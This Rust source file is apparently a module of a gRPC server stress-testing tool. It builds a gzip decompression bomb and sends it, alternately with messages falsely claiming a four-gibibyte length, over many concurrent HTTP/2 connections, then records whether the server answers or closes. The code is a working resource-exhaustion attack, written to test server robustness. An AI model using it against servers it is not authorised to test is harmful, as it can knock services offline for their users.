//! Messages that say they are compressed, and messages that say they are gigantic.

use std::time::Duration;

use anyhow::{Result, ensure};
use tokio::process::Command;
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::{Attack, Tally, add_up, all_closed, write_and_listen};
use crate::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, call, frame};

/// Connections at once, and calls on each.
const CONNECTIONS: usize = 8;
const CALLS: usize = 50;
/// What may be sent of a message before the server has read it.
const WINDOW: usize = 64 * 1024 - 1;
/// How long a connection is listened to.
const LISTEN: Duration = Duration::from_secs(1);

pub(super) async fn run(attack: &Attack) -> Result<Tally> {
    let bomb = bomb().await?;
    let mut total = Tally::new();
    let mut sent = 0;
    while sent < attack.count && !attack.is_over() {
        let mut lines = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let Ok(line) = attack.begin(&[]).await else { continue };
            let calls = CALLS.min(attack.count);
            let bytes: Vec<u8> = (0..calls).flat_map(|n| one(n, &bomb)).collect();
            sent += calls;
            lines.spawn(async move {
                let (heard, closed) = write_and_listen(line, &bytes, calls, Instant::now() + LISTEN).await;
                let answered = heard.answers();
                vec![
                    ("connections", 1),
                    ("answered", answered),
                    ("closed by the server", usize::from(closed)),
                ]
            });
        }
        for (what, times) in add_up(lines).await? {
            *total.entry(what).or_default() += times;
        }
    }
    total.insert("bombs".to_owned(), sent);
    let answered = total.get("answered").is_some_and(|&answered| answered > 0);
    ensure!(answered || all_closed(&total), "nobody answered: {total:?}");
    Ok(total)
}

/// 200 MiB of nothing in some 200 KiB.
async fn bomb() -> Result<Vec<u8>> {
    let packed = Command::new("sh").args(["-c", "head -c 209715200 /dev/zero | gzip -6"]).output().await?;
    ensure!(packed.status.success() && packed.stdout.len() > 100_000, "gzip makes no bomb");
    Ok(packed.stdout)
}

/// A call with a bomb, or with the promise of four gibibytes.
fn one(n: usize, bomb: &[u8]) -> Vec<u8> {
    let id = u32::try_from(2 * n + 1).unwrap_or(1);
    let path = "/productpb.ProductService/New";
    let (headers, message) = if n.is_multiple_of(2) {
        let length = u32::try_from(bomb.len()).unwrap_or(u32::MAX).to_be_bytes();
        (call(path, &[("grpc-encoding", "gzip")]), [&[1], length.as_slice(), bomb].concat())
    } else {
        (call(path, &[]), vec![0, 255, 255, 255, 255, 8])
    };
    let mut bytes = frame(HEADERS, END_HEADERS, id, &headers);
    let message = message.get(..WINDOW).unwrap_or(&message);
    for piece in message.chunks(16 * 1024) {
        bytes.extend(frame(DATA, 0, id, piece));
    }
    bytes.extend(frame(DATA, END_STREAM, id, &[]));
    bytes
}
